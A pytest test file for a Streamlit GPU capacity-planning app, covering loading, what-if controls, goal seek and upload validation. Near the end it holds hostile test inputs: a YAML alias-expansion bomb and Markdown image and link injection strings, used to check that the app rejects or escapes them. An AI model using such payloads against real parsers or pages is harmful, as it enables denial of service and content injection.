"""The Streamlit what-if app (app.py) driven in process with streamlit.testing.v1.AppTest: no browser, no server.

The page reads scenarios from PLANNER_SCENARIO_DIR (a folder made in tmp_path), applies the sidebar's
what-if controls through planner.edits and calls planner.api; errors must show in the page, never as
a traceback.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import json
import re
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from planner import api, edits, whatif
from planner.errors import ScenarioError
from planner.fmt import fmt_usd
from planner.loader import from_dict
from planner.report.headline import headline_items

ROOT = Path(__file__).resolve().parent.parent
APP = ROOT / "app.py"
TIMEOUT_S = 60

SMALL = {
    "name": "app-small",
    "description": "owned chips in two tranches plus a rental",
    "start": "2025-01-01",
    "horizon_days": 60,
    "workload": {"model": "llama3-8b", "tokens": 1.0e11, "seq_len": 8192},
    "fleet": [
        {"name": "owned-h100", "chip": "h100-sxm", "units": 64, "deliveries": [{"date": "2025-01-10", "units": 128}]},
        {"name": "cloud-h100", "chip": "h100-sxm",
         "cloud": {"units": 32, "from": "2025-01-15", "until": "2025-12-31", "price_per_chip_hour_usd": 2.5}},
    ],
    "reliability": {"enabled": False},
    "simulation": {"seed": 3, "replications": 1},
}
BROKEN = """\
name: app-broken
workload: {model: llama3-8b, tokens: 1.0e12, seq_len: 8192}
fleet:
  - {name: p, chip: no-such-chip, units: 8}
"""
CLOUD_ONLY = {**SMALL, "name": "app-cloud-only", "fleet": SMALL["fleet"][1:]}
FILES = ["a-small.yaml", "b-broken.yaml", "c-cloud-only.yaml"]
TABS = ["Run", "Edit plan", "A/B", "Estimate", "Scenario", "Compare & solve"]


@pytest.fixture
def scenario_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "scenarios"
    folder.mkdir()
    (folder / "a-small.yaml").write_text(yaml.safe_dump(SMALL, sort_keys=False))
    (folder / "b-broken.yaml").write_text(BROKEN)
    (folder / "c-cloud-only.yaml").write_text(yaml.safe_dump(CLOUD_ONLY, sort_keys=False))
    (folder / "notes.txt").write_text("not a scenario")
    monkeypatch.setenv("PLANNER_SCENARIO_DIR", str(folder))
    return folder


# Each new AppTest scans the metadata of every installed package for Streamlit components (~0.5 s) on its
# first run; the app uses none, so the first scan's registry is shared by the later AppTests of the process.
_SHARED = "_bidi_component_manager"
_components: list = []


def _run_app():
    """A fresh AppTest of app.py after its first run."""
    from streamlit.testing.v1 import AppTest

    app = AppTest.from_file(str(APP), default_timeout=TIMEOUT_S)
    if _components and hasattr(app, _SHARED):
        setattr(app, _SHARED, _components[0])
    app.run()
    if not _components and getattr(app, _SHARED, None) is not None:
        _components.append(getattr(app, _SHARED))
    return app


@pytest.fixture
def at(scenario_dir: Path):
    app = _run_app()
    _no_traceback(app)
    return app


def _no_traceback(app) -> None:
    """No uncaught exception, and no traceback shown anywhere in the page."""
    assert not app.exception, [e.value for e in app.exception]
    for kind in ("code", "error", "markdown", "text"):
        for el in app.get(kind):
            assert "Traceback" not in str(getattr(el, "value", "")), (kind, el.value)


def _plain(text: str) -> str:
    """Markdown as the reader sees it: the app escapes scenario text (escape.markdown), this takes the escapes out.

    And the invisible word joiners that keep a bare URL or address from becoming a link.
    """
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text).replace("\u2060", "")


def _errors(app) -> list[str]:
    return [_plain(e.value) for e in app.error]


def _shown_scenario(app) -> dict:
    """The scenario as the Scenario tab prints it (YAML), re-validated."""
    (code,) = app.tabs[TABS.index("Scenario")].text
    return yaml.safe_load(code.value)


def _metrics(app) -> dict[str, str]:
    return {_plain(m.label): m.value for m in app.metric}


# ---------------------------------------------------------------- loading


def test_loads_the_scenarios_of_the_folder(at, scenario_dir):
    (select,) = at.sidebar.selectbox
    assert select.options == FILES  # YAML and JSON files only
    assert select.value == scenario_dir / "a-small.yaml"
    assert not _errors(at)
    assert _plain(at.caption[0].value).startswith("**app-small**")
    assert [t.label for t in at.tabs] == TABS
    # a chart on first load: one cached replication of the file as loaded
    assert len(at.get("plotly_chart")) >= 1
    assert _plain(at.subheader[0].value) == "Run: app-small"
    shown = _shown_scenario(at)
    assert from_dict(shown) == from_dict(SMALL)
    # only the fields the file set (app review: every pool read `stack: standard`, which the run left unset: an unset
    # stack's band spans every level, a written one does not, and the text ran to other answers)
    assert all("stack" not in p for p in shown["fleet"]) and not any("stack" in p for p in SMALL["fleet"])
    # the controls start from the file's own settings
    assert at.sidebar.toggle[0].value is False
    assert [n.value for n in at.sidebar.number_input] == [0, 3, 1]  # slip, seed, replications


def test_an_invalid_file_shows_the_field_and_no_traceback(at):
    at.sidebar.selectbox[0].select_index(FILES.index("b-broken.yaml")).run()
    _no_traceback(at)
    (error,) = _errors(at)
    assert "b-broken.yaml" in error and "fleet[0].chip" in error and "no-such-chip" in error
    assert not at.metric and not at.tabs  # nothing is computed from a broken file
    at.sidebar.selectbox[0].select_index(0).run()  # back to a good file: the page recovers
    assert not _errors(at) and at.tabs


BAD_UPLOADS = [
    ("bad.yaml", b"name: [unclosed\nworkload: {", "line 2, column 9: not valid YAML"),
    ("bad.json", b"\xff\xfe\x00", "not UTF-8"),
    ("list.yaml", b"- a\n- b\n", "must hold a mapping"),
    ("units.json", b'{"name": "u", "workload": {"model": "llama3-8b", "tokens": 1e11, "seq_len": 8192},'
                   b' "fleet": [{"name": "p", "chip": "h100-sxm", "units": -1}]}', "fleet[0].units"),
]


def test_bad_uploads_show_an_error_and_no_traceback(at):
    at.sidebar.radio[0].set_value("Upload a file").run()
    for name, content, message in BAD_UPLOADS:  # one page, one upload after the other
        at.sidebar.file_uploader[0].set_value((name, content, "application/octet-stream")).run()
        _no_traceback(at)
        (error,) = _errors(at)
        assert name in error and message in error, (name, error)
        assert not at.metric
        # the error says why; no prompt to choose a file beside it, as if none had been (app review)
        assert not [i for i in at.info if "Choose a scenario file" in str(i.value)]


def test_a_good_upload_is_used(at):
    at.sidebar.radio[0].set_value("Upload a file").run()
    text = yaml.safe_dump({**SMALL, "name": "uploaded"}).encode()
    at.sidebar.file_uploader[0].set_value(("up.yaml", text, "application/x-yaml")).run()
    _no_traceback(at)
    assert not _errors(at)
    assert _plain(at.caption[0].value).startswith("**uploaded** · up.yaml")


# ---------------------------------------------------------------- controls


def test_controls_change_the_scenario(at):
    sb = at.sidebar
    sb.slider[0].set_value(2.0).run()
    sb.number_input[0].set_value(10).run()  # delivery slip [days]
    sb.toggle[0].set_value(True).run()
    sb.number_input[1].set_value(17).run()  # seed
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert shown["fleet"][1]["cloud"]["units"] == 64
    assert shown["fleet"][0]["deliveries"] == [{"date": "2025-01-20", "units": 128}]
    assert shown["fleet"][1]["cloud"]["from"] == "2025-01-15"  # rentals do not slip
    assert shown["reliability"]["enabled"] is True
    assert shown["simulation"] == {"seed": 17, "replications": 1}  # only what was set (model_error left to its default)
    pools = at.tabs[TABS.index("Scenario")].dataframe[0].value
    assert list(pools["cloud units"]) == ["0", "64"]  # counts with thousands separators
    assert list(pools["planned units"]) == ["128", "64"]


def test_removing_all_cloud_from_a_cloud_only_scenario_is_an_error(at):
    at.sidebar.selectbox[0].select_index(FILES.index("c-cloud-only.yaml")).run()
    assert not _errors(at)
    at.sidebar.slider[0].set_value(0.0).run()
    _no_traceback(at)
    (error,) = _errors(at)
    assert "no pool is left" in error and "fleet" in error


# ---------------------------------------------------------------- run and estimate


def test_run_shows_the_api_result_and_updates(at):
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not _errors(at)
    assert _plain(at.subheader[0].value) == "Run: app-small"
    app = _load_app()
    run = api.simulate(from_dict(SMALL), replications=1, seed=3)
    want = run.summary
    shown = _metrics(at)
    for h in app.headline_cards(want):
        assert shown[h.label] == h.value, h.label
    _one_card_per_figure(at)
    # the report's charts but the per-pool contribution (the same stacked tokens as the progress chart)
    assert len(at.get("plotly_chart")) == len(_charts_shown(app, run))
    assert not at.warning

    # a changed control marks the result stale until the next run
    at.sidebar.number_input[2].set_value(3).run()  # replications
    assert any("settings changed since this run" in w.value for w in at.warning)
    at.sidebar.slider[0].set_value(3.0).run()
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    assert not at.warning
    edited = edits.set_values(edits.scale_cloud(from_dict(SMALL), 3.0), {"simulation.replications": 3})
    run = api.simulate(edited, replications=3, seed=3)
    # now with the fan, finish CDF, cost and replications histograms
    assert len(at.get("plotly_chart")) == len(_charts_shown(app, run)) >= 9
    want = run.summary
    shown = _metrics(at)
    for h in app.headline_cards(want):
        assert shown[h.label] == h.value, h.label
    _one_card_per_figure(at)
    assert {h.key for h in headline_items(want)} <= {h.key for h in app.headline_cards(want)} | {"cost_usd"}
    assert any(e.label == "Replications (3)" for e in at.expander)
    # which replication the detailed charts and the cash flow show, as the report says it (app review: the page
    # showed replication 0's charts beside figures of all three, and a cash flow with no word on either)
    from planner.report.html import cashflow_text, detail_text

    captions = [_plain(c.value) for c in at.caption]
    assert detail_text(run).startswith("The capacity, progress") and detail_text(run) in captions
    if "cashflow" in _charts_shown(app, run):
        assert run.cashflow_note and cashflow_text(run) in captions


def _charts_shown(app, run) -> list[str]:
    from planner.report import charts

    return [k for k in charts.result_figure_builders(run) if k not in app.SAME_AS_CHART]


def _one_card_per_figure(at) -> None:
    """No figure has two cards: no label twice (in any case), no finish date card twice."""
    labels = [_plain(m.label).lower() for m in at.metric]
    assert len(labels) == len(set(labels)), labels
    assert sum(label.startswith("finish date") for label in labels) <= 1, labels


def test_estimate_tab(at):
    tab = at.tabs[TABS.index("Estimate")]
    tab.button[0].click().run()
    _no_traceback(at)
    tab = at.tabs[TABS.index("Estimate")]
    want = api.estimate(from_dict(SMALL))
    shown = _metrics(at)
    assert shown["Mode"] == want["combined"]["mode"]
    table = tab.dataframe[0].value
    assert list(table["pool"]) == [p["pool"] for p in want["pools"]]
    assert list(table["tp"]) == [p["parallelism"]["tp"] for p in want["pools"]]
    assert "zero" in table.columns and "vp" in table.columns
    # every figure with its unit (issue 20: no `mfu 0.2972`, no `tokens_per_s 2918372.7894`)
    assert all(v.endswith(" %") for v in table["MFU"]), table["MFU"]
    assert all(re.fullmatch(r"[\d.]+( [kMGTP])?", v) for v in table["tokens/s"]), table["tokens/s"]
    assert all(v.endswith(" d") for v in table["time to train"])
    assert all(v.endswith(" GiB") for v in table["memory per chip"])
    assert not {"mfu", "tokens_per_s", "step_time_s"} & set(table.columns)


# ---------------------------------------------------------------- the app's helpers


def _load_app():
    if "planner_app" not in sys.modules:
        spec = importlib.util.spec_from_file_location("planner_app", APP)
        module = importlib.util.module_from_spec(spec)
        sys.modules["planner_app"] = module  # dataclasses look their module up
        spec.loader.exec_module(module)  # main() only runs under `streamlit run`
    return sys.modules["planner_app"]


def test_apply_knobs_returns_an_edited_copy():
    app = _load_app()
    s = from_dict(SMALL)
    before = s.model_dump()
    out = app.apply_knobs(s, app.Knobs(cloud_multiplier=1.5, delivery_slip_days=-9, reliability=True, seed=11,
                                       replications=4))
    assert out.fleet[1].cloud.units == 48
    assert str(out.fleet[0].deliveries[0].date) == "2025-01-01"
    assert out.reliability.enabled and (out.simulation.seed, out.simulation.replications) == (11, 4)
    assert s.model_dump() == before
    with pytest.raises(ScenarioError, match="no pool is left"):
        app.apply_knobs(from_dict(CLOUD_ONLY), app.Knobs(cloud_multiplier=0.0))


def test_scenario_files_and_estimate_table(scenario_dir):
    app = _load_app()
    assert [p.name for p in app.scenario_files(scenario_dir)] == FILES
    assert app.scenario_files(scenario_dir / "missing") == []
    table = app.estimate_pools_frame({"pools": [{"pool": "p", "units": 8, "mfu": 0.2972, "tokens_per_s": 2918372.7894,
                                                 "parallelism": {"tp": 8, "pp": 1}}]})
    assert list(table.columns) == ["pool", "units (layout)", "MFU", "tokens/s", "tp", "pp"]
    assert table.iloc[0].tolist() == ["p", "8", "29.7 %", "2.92 M", 8, 1]
    assert app.estimate_pools_frame({}).empty


# The Seed control starts from the file's seed only when it is a valid one; a seed the format allows
# (up to 2**53 - 1 in the browser's number field) works, a negative or non-numeric one is reported by the
# validator with its field path, never as a traceback.
def test_any_seed_in_the_file_gives_no_traceback(at, scenario_dir):
    seeds = {"d-seed-large.yaml": 2**40, "e-seed-negative.yaml": -5, "f-seed-text.yaml": "abc"}
    for name, seed in seeds.items():
        (scenario_dir / name).write_text(yaml.safe_dump({**SMALL, "simulation": {"seed": seed}}))
    at.run()
    for name, seed in seeds.items():
        at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index(name)).run()
        _no_traceback(at)
        if isinstance(seed, int) and seed > 0:  # valid: the page works
            assert not _errors(at) and at.tabs
        else:  # invalid: a validation error that names the field
            assert any("simulation.seed" in e for e in _errors(at)), _errors(at)


# ---------------------------------------------------------------- editing without YAML, A/B, downloads


def _edit(at):
    return at.tabs[TABS.index("Edit plan")]


def test_edit_controls_change_the_scenario(at):
    tab = _edit(at)
    tab.number_input[0].set_value(0.2).run()  # tokens [trillions]
    tab = _edit(at)
    tab.selectbox[0].set_value("llama3-70b").run()  # model
    tab = _edit(at)
    tab.selectbox[1].set_value("single").run()  # strategy mode
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert shown["workload"]["tokens"] == pytest.approx(2e11)
    assert shown["workload"]["model"] == "llama3-70b"
    assert shown["strategy"]["mode"] == "single"
    # pool 0: units, slip, share by date; pool 1: the rental
    labels = [n.label for n in _edit(at).number_input]
    _edit(at).number_input[labels.index("Units on day 0")].set_value(32).run()
    _edit(at).number_input[labels.index("Slip by [days]")].set_value(5).run()
    cloud_units = [i for i, n in enumerate(labels) if n == "Cloud units"]
    prices = [i for i, n in enumerate(labels) if n == "Price [USD/chip-h]"]
    assert len(cloud_units) == len(prices) == 1  # the rented pool's only: the owned pool has no cloud fields
    _edit(at).number_input[cloud_units[0]].set_value(48).run()
    _edit(at).number_input[prices[0]].set_value(3.5).run()
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    assert shown["fleet"][0]["units"] == 32
    assert shown["fleet"][0]["deliveries"] == [{"date": "2025-01-15", "units": 128}]
    assert shown["fleet"][1]["cloud"]["units"] == 48
    assert shown["fleet"][1]["cloud"]["price_per_chip_hour_usd"] == 3.5
    _edit(at).slider[0].set_value(0.5).run()  # half of the order by the date below
    shown = _shown_scenario(at)
    assert shown["fleet"][0]["deliveries"][0]["units"] == 64


def test_an_edit_that_does_not_validate_is_shown_where_it_is_made(at):
    """Units on day 0 above the cumulative deliveries blanked every tab below the error, the last run too.

    The edit is now shown as not applied in its pool; the rental's fields, the Run tab's cards and the other tabs
    stay, with a warning that an edit waits.
    """
    labels = [n.label for n in _edit(at).number_input]
    _edit(at).number_input[labels.index("Commissioning [days]")].set_value(7.0).run()  # a good edit first
    _edit(at).number_input[labels.index("Units on day 0")].set_value(200_000).run()
    _no_traceback(at)
    # the fields after the bad one in the same pool are still drawn, and the good edit stays
    assert [n.label for n in _edit(at).number_input] == labels
    assert _shown_scenario(at)["fleet"][0]["commissioning_days"] == 7.0
    errors = _errors(at)
    assert any(e.startswith("Not applied:") and "must not decrease" in e for e in errors), errors
    assert "Cloud units" in [n.label for n in _edit(at).number_input]  # the rest of the Edit tab is drawn
    assert _metrics(at), "the Run tab lost its cards"
    run_tab = at.tabs[TABS.index("Run")]
    assert any("An edit is not applied" in _plain(w.value) for w in run_tab.warning)  # where the last run is
    assert _shown_scenario(at)["fleet"][0]["units"] == 64  # the scenario goes on without the edit
    _edit(at).number_input[labels.index("Units on day 0")].set_value(64).run()
    assert not _errors(at) and not any("An edit is not applied" in _plain(w.value) for w in at.warning)
    assert _shown_scenario(at)["fleet"][0]["commissioning_days"] == 7.0


def test_a_run_after_an_edit_reports_its_settings_and_deltas(at):
    labels = [n.label for n in _edit(at).number_input]
    _edit(at).number_input[labels.index("Units on day 0")].set_value(128).run()
    at.sidebar.button[0].click().run()
    _no_traceback(at)
    caption = " ".join(_plain(c.value) for c in at.caption)
    assert "fleet[0].units: 64 → 128" in caption
    cards = {m.label: m for m in at.metric}
    assert cards["Finish date (P50)"].delta and cards["Finish date (P50)"].delta.startswith("-")  # earlier
    assert not cards["MFU (P50)"].delta or cards["MFU (P50)"].delta.endswith("pp")  # (none: no change shown)


def test_ab_side_by_side(at):
    ab = at.tabs[TABS.index("A/B")]
    ab.button[0].click().run()  # keep the first-load run as A
    labels = [n.label for n in _edit(at).number_input]
    _edit(at).number_input[labels.index("Units on day 0")].set_value(128).run()
    at.sidebar.button[0].click().run()
    at.tabs[TABS.index("A/B")].button[1].click().run()
    _no_traceback(at)
    table = at.tabs[TABS.index("A/B")].table[0].value.map(_plain)
    table.index = table.index.map(_plain)
    assert list(table.columns) == ["A", "B", "B - A"]
    p50 = table.loc["finish date P50"]
    assert p50["A"] > p50["B"] and p50["B - A"].startswith("-")
    # which inputs differ: the units on day 0, nothing else
    differ = at.tabs[TABS.index("A/B")].table[1].value.map(_plain)
    differ.index = differ.index.map(_plain)  # (row labels are escaped as the cells are: st.table renders both)
    assert differ.to_dict("index") == {"fleet[0].units": {"A": "64", "B": "128"}}


def test_downloads_reread_and_revalidate(at):
    buttons = {b.label: b for b in at.get("download_button")}
    assert {"scenario.yaml", "report.html", "report.xlsx"} <= set(buttons)


def test_whatif_helpers_known_answers():
    from planner import whatif

    s = from_dict(SMALL)
    text = whatif.to_yaml(s)
    assert whatif.from_yaml(text) == s  # the download re-validates to the same scenario
    half = whatif.share_by_date(s, 0, 0.5, __import__("datetime").date(2025, 1, 20))
    assert [(str(d.date), d.units) for d in half.fleet[0].deliveries] == [("2025-01-10", 64), ("2025-01-20", 64)]
    # a shortfall never brings chips forward: 30% of the final 100,000 by mid-May is more than the 10,000 planned
    ramp = from_dict(yaml.safe_load((ROOT / "scenarios" / "ascend-ramp-2024.yaml").read_text()))
    cut = whatif.share_by_date(ramp, 0, 0.3, __import__("datetime").date(2024, 5, 15))
    assert [(str(d.date), d.units) for d in cut.fleet[0].deliveries][:3] == [
        ("2024-04-30", 10000), ("2024-05-15", 10000), ("2024-07-31", 29000)]
    late = whatif.share_by_date(ramp, 0, 0.3, __import__("datetime").date(2024, 12, 31))
    assert [d.units for d in late.fleet[0].deliveries] == [10000, 29000, 30000, 100000]
    assert whatif.delta_text("goodput", 0.95, 0.90) == "+5.0 pp"
    assert whatif.changed_fields({"a": {"b": 1}}, {"a": {"b": 2}}) == ["a.b: 1 → 2"]
    with pytest.raises(ScenarioError, match=r"fleet\[0\]\.deliveries\[0\]"):
        whatif.set_deliveries(s, 0, [{"date": None, "units": 5}])
    # the goal seek's cost card: a P50 spend of replications stopped by the horizon is at least that
    from planner.decide import present

    assert present.solve_cost({"cost_usd": 1.5e6, "cost_usd_at_least": True}) == "≥ $1.5 M"
    assert present.solve_cost({"cost_usd": 1.5e6}) == "$1.5 M"
    # a data editor's new row holds NaN and NaT, not None: it is blank, not half a delivery
    import pandas as pd

    kept = whatif.set_deliveries(s, 0, [{"date": "2025-01-10", "units": 64}, {"date": pd.NaT, "units": float("nan")},
                                        {"date": None, "units": None}])
    assert [(str(d.date), d.units) for d in kept.fleet[0].deliveries] == [("2025-01-10", 64)]
    kept_na = whatif.set_deliveries(s, 0, [{"date": "2025-01-10", "units": 64}, {"date": pd.NaT, "units": pd.NA}])
    assert len(kept_na.fleet[0].deliveries) == 1  # a nullable column's blank is pandas' NA
    with pytest.raises(ScenarioError, match=r"fleet\[0\]\.deliveries\[1\]"):
        whatif.set_deliveries(s, 0, [{"date": "2025-01-10", "units": 64}, {"date": pd.NaT, "units": 120000.0}])


def test_planner_app_command_binds_localhost_without_usage_stats(cli):
    from planner.cli import app_command

    argv = app_command(8600, headless=True)
    assert argv[argv.index("--server.address") + 1] == "127.0.0.1"
    assert argv[argv.index("--browser.gatherUsageStats") + 1] == "false"
    assert argv[argv.index("run") + 1].endswith("app.py")
    assert "app" in cli("--help").stdout


def test_the_shipped_streamlit_config_serves_this_machine_only():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "127.0.0.1" and config["server"]["maxUploadSize"] <= 5
    assert config["browser"]["gatherUsageStats"] is False and config["client"]["showErrorDetails"] is False


STORM = {**SMALL, "name": "app-storm", "fleet": SMALL["fleet"][:1],
         "reliability": {"enabled": True, "mtbf_chip_days": 1e-6, "restart_base_minutes": 0,
                         "restart_minutes_per_1000_chips": 0, "repair_days": 0, "checkpoint_write_s": 0,
                         "manual_intervention_share": 0}}
ALIAS_BOMB = "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 9 if p else ['lol'] * 9)}]\n"
                     for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True)) + "name: *i\n"


def test_the_app_refuses_storms_and_alias_bombs_as_the_command_line_does(at):
    at.sidebar.radio[0].set_value("Upload a file").run()
    at.sidebar.file_uploader[0].set_value(("storm.yaml", yaml.safe_dump(STORM).encode(), "text/yaml")).run()
    _no_traceback(at)
    assert any("reliability.mtbf_chip_days" in e and "budget" in e for e in _errors(at)), _errors(at)
    at.sidebar.file_uploader[0].set_value(("bomb.yaml", ALIAS_BOMB.encode(), "text/yaml")).run()
    _no_traceback(at)
    (error,) = _errors(at)
    assert "aliases expand" in error and len(error.encode()) < 2_000


def test_the_app_caps_the_time_a_run_may_take():
    from planner.budget import check_time, run_estimate
    from planner.loader import load_scenario

    page = _load_app()

    s = from_dict({**SMALL, "reliability": {"enabled": True}})
    assert check_time(s, 1, 120.0).seconds == run_estimate(s, 1).seconds
    with pytest.raises(ScenarioError, match="simulation.replications: 100,000 replication") as info:
        check_time(s, 100_000, 120.0, "<app>")
    assert "<app>" in str(info.value)
    assert page.MAX_APP_REPLICATIONS <= 1_000 and page.MAX_APP_RUN_S <= 600
    ramp = load_scenario(ROOT / "scenarios" / "ascend-ramp-2024.yaml")  # the cap still allows the slider's top
    assert run_estimate(ramp, page.MAX_APP_REPLICATIONS).seconds < page.MAX_APP_RUN_S


# ---------------------------------------------------------------- compare, tornado and goal seek

# owned chips arrive on day 60; until then only the rental trains: how much to rent decides the finish
RENT = {**SMALL, "name": "app-rent", "horizon_days": 120,
        "fleet": [{"name": "owned-h100", "chip": "h100-sxm", "units": 0,
                   "deliveries": [{"date": "2025-03-01", "units": 128}]},
                  {"name": "cloud-h100", "chip": "h100-sxm",
                   "cloud": {"units": 32, "from": "2025-01-01", "until": "2025-12-31",
                             "price_per_chip_hour_usd": 2.5}}]}


def _more(app):
    return app.tabs[TABS.index("Compare & solve")]


def _open_rent(at, scenario_dir):
    (scenario_dir / "d-rent.yaml").write_text(yaml.safe_dump(RENT, sort_keys=False))
    at.run()
    at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index("d-rent.yaml")).run()
    _no_traceback(at)
    assert not _errors(at)
    return at


def _seek(at, replications: int, largest: int) -> None:
    """Run the goal seek with these replications per value and this largest value; no traceback, no error box."""
    _by_label(_more(at).number_input, "Replications per value").set_value(replications).run()
    _by_label(_more(at).number_input, "Largest value to try").set_value(largest).run()
    _by_label(_more(at).button, "What must we rent?").click().run()
    _no_traceback(at)
    assert not _errors(at)


def _by_label(elements, label):
    (found,) = [e for e in elements if e.label == label]
    return found


def test_compare_strategy_modes_matches_planner_compare(at):
    assert not _more(at).dataframe  # nothing until asked
    _by_label(_more(at).button, "Compare strategy modes").click().run()
    _no_traceback(at)
    table = _more(at).dataframe[0].value
    want = api.compare(from_dict(SMALL))
    assert list(table["mode"]) == [r["mode"] + (" (auto)" if r["auto"] else "") for r in want]
    assert list(table["finish date"]) == [r.get("finish_date") or "never" if r["possible"] else "" for r in want]
    assert any(c.proto.spec and "Strategy modes" in c.proto.spec for c in _more(at).get("plotly_chart"))
    at.sidebar.slider[0].set_value(2.0).run()  # the answer is kept but marked stale
    assert any("settings changed since this answer" in w.value for w in _more(at).warning)


def test_tornado_uses_planner_sensitivity_with_the_chosen_replications(at):
    from planner.decide.sensitivity import sensitivity

    _by_label(_more(at).number_input, "Replications per point").set_value(2).run()
    _by_label(_more(at).button, "Tornado").click().run()
    _no_traceback(at)
    assert not _errors(at)
    shown = _more(at).dataframe[0].value
    want = sensitivity(from_dict(SMALL), replications=2)
    assert list(shown["input"]) == list(want["input"])
    assert list(shown["finish p50 (low)"]) == [d or "never" for d in want["finish_date_p50_low"]]
    titles = [c.proto.spec for c in _more(at).get("plotly_chart")]
    assert sum("each input at its low and high value" in t for t in titles) == 2  # days and cost


def test_goal_seek_answers_what_planner_solve_answers(at, scenario_dir):
    import datetime as dt

    from planner.decide.solve import solve

    _open_rent(at, scenario_dir)
    tab = _more(at)
    assert _by_label(tab.selectbox, "Vary").value == "fleet[1].cloud.units"  # the rented pool is offered
    _by_label(tab.date_input, "Finish by").set_value(dt.date(2025, 1, 3)).run()
    _by_label(_more(at).number_input, "At quantile").set_value(0.5).run()
    _seek(at, replications=2, largest=256)
    want = solve(from_dict(RENT), "fleet[1].cloud.units", dt.date(2025, 1, 3), quantile=0.5, high=256,
                 replications=2)
    assert want["found"] and 32 < want["value"] < 256  # the file's 32 are too few, 256 are enough
    cards = {_plain(m.label): m.value for m in _more(at).metric}
    assert cards["fleet[1].cloud.units"] == f"{want['value']:,}"
    assert cards["Finish date (P50)"] == want["finish_date"] <= "2025-01-03"
    (success,) = _more(at).success
    assert "fleet[1].cloud.units" in _plain(success.value) and want["finish_date"] in _plain(success.value)
    assert not any("settings changed since this answer" in w.value for w in _more(at).warning)
    # another quantile asks another question: the answer shown is marked out of date (app review: it was not)
    _by_label(_more(at).number_input, "At quantile").set_value(0.9).run()
    assert any("settings changed since this answer" in w.value for w in _more(at).warning)


def test_goal_seek_impossible_deadline_and_bad_paths_show_errors(at, scenario_dir):
    import datetime as dt

    _open_rent(at, scenario_dir)
    _by_label(_more(at).date_input, "Finish by").set_value(dt.date(2025, 1, 1)).run()  # day 0: impossible
    _by_label(_more(at).number_input, "Replications per value").set_value(1).run()
    _by_label(_more(at).button, "What must we rent?").click().run()
    _no_traceback(at)
    (error,) = _more(at).error
    assert "No value of fleet[1].cloud.units" in _plain(error.value) and "2025-01-01" in _plain(error.value)
    assert not _more(at).metric

    _by_label(_more(at).selectbox, "Vary").set_value("(another input by field path)").run()
    _by_label(_more(at).text_input, "Field path").input("workload.tokens").run()  # a large float: no traceback
    _no_traceback(at)
    assert _by_label(_more(at).number_input, "Largest value to try").value == pytest.approx(4e11)
    for path, message in (("fleet[9].units", "fleet[9]"), ("fleet[0].chip", "needs a number"),
                          ("fleet[0].[", "fleet[0].[")):
        _by_label(_more(at).text_input, "Field path").input(path).run()
        if _more(at).button and any(b.label == "What must we rent?" for b in _more(at).button):
            _by_label(_more(at).button, "What must we rent?").click().run()
        _no_traceback(at)
        errors = _errors(at)
        assert errors and any(message in e for e in errors), (path, errors)


# ---------------------------------------------------------------- the model by size


def test_model_by_size_writes_an_explicit_architecture(at):
    from planner.perf.params import count_params

    _edit(at).selectbox[0].set_value("(size in parameters)").run()
    assert _by_label(_edit(at).number_input, "Parameters [billions]").value == pytest.approx(8.03, abs=0.01)
    _by_label(_edit(at).number_input, "Parameters [billions]").set_value(20.0).run()
    _no_traceback(at)
    assert not _errors(at)
    model = _shown_scenario(at)["workload"]["model"]
    assert isinstance(model, dict) and model["kv_heads"] == 8
    arch = from_dict({**SMALL, "workload": {**SMALL["workload"], "model": model}}).workload.arch
    assert count_params(arch).total == pytest.approx(20e9, rel=0.02)
    assert any("B parameters (Llama 3 shape rule)" in c.value for c in _edit(at).caption)
    at.sidebar.button[0].click().run()  # the edited model runs
    _no_traceback(at)
    assert not _errors(at)


def test_edit_plan_takes_any_valid_token_count(at):
    """The Tokens field's bounds hold the file's value: 10,000 T (the format's largest) or a million tokens."""
    at.sidebar.radio[0].set_value("Upload a file").run()
    for i, tokens in enumerate((1.0e16, 1.0e6)):
        text = yaml.safe_dump({**SMALL, "workload": {**SMALL["workload"], "tokens": tokens}}).encode()
        at.sidebar.file_uploader[0].set_value((f"tokens{i}.yaml", text, "application/x-yaml")).run()
        _no_traceback(at)
        assert not _errors(at)
        assert _by_label(_edit(at).number_input, "Tokens [trillions]").value == pytest.approx(tokens / 1e12)


# ---------------------------------------------------------------- issue 17: what the page shows, offers and runs

MD = "![x](http://127.0.0.1:9/x.png) [link](http://x)"  # an image from an address the file chose, and a link
MD_SCENARIO = {**SMALL, "name": f"md {MD}", "description": f"desc {MD}",
               "fleet": [{**SMALL["fleet"][0], "name": f"o{MD}", "site": f"s{MD}"},
                         {**SMALL["fleet"][1], "name": f"c{MD}"}]}
# element types that show their text as typed (no Markdown), and proto fields that never hold shown text
PLAIN_TYPES = {"text", "code", "dataframe", "arrow_data_frame", "plotly_chart", "selectbox", "download_button",
               "json", "text_input"}
NOT_SHOWN = {"id", "form_id", "deferred_file_id", "url", "spec", "config", "columns", "theme", "type", "tag",
             "format", "min", "max", "default", "icon"}


def _upload(at, name: str, scenario) -> None:
    text = json.dumps(scenario) if name.endswith(".json") else yaml.safe_dump(scenario, sort_keys=False)
    text = text.encode()
    if at.sidebar.radio[0].value != "Upload a file":
        at.sidebar.radio[0].set_value("Upload a file").run()
    at.sidebar.file_uploader[0].set_value((name, text, "application/x-yaml")).run()
    _no_traceback(at)


def _markdown_texts(node, kind: str = "") -> list[tuple[str, str]]:
    """(element type, text) of every string the page renders as Markdown: bodies, labels, help, table cells."""
    kind = getattr(node, "type", kind)
    out = []
    proto = getattr(node, "proto", None)
    if proto is not None and kind not in PLAIN_TYPES:
        out += [(kind, v) for f, v in proto.ListFields() if isinstance(v, str) and v and f.name not in NOT_SHOWN]
    if kind == "table":  # st.table renders Markdown in every cell, header and index
        df = node.value
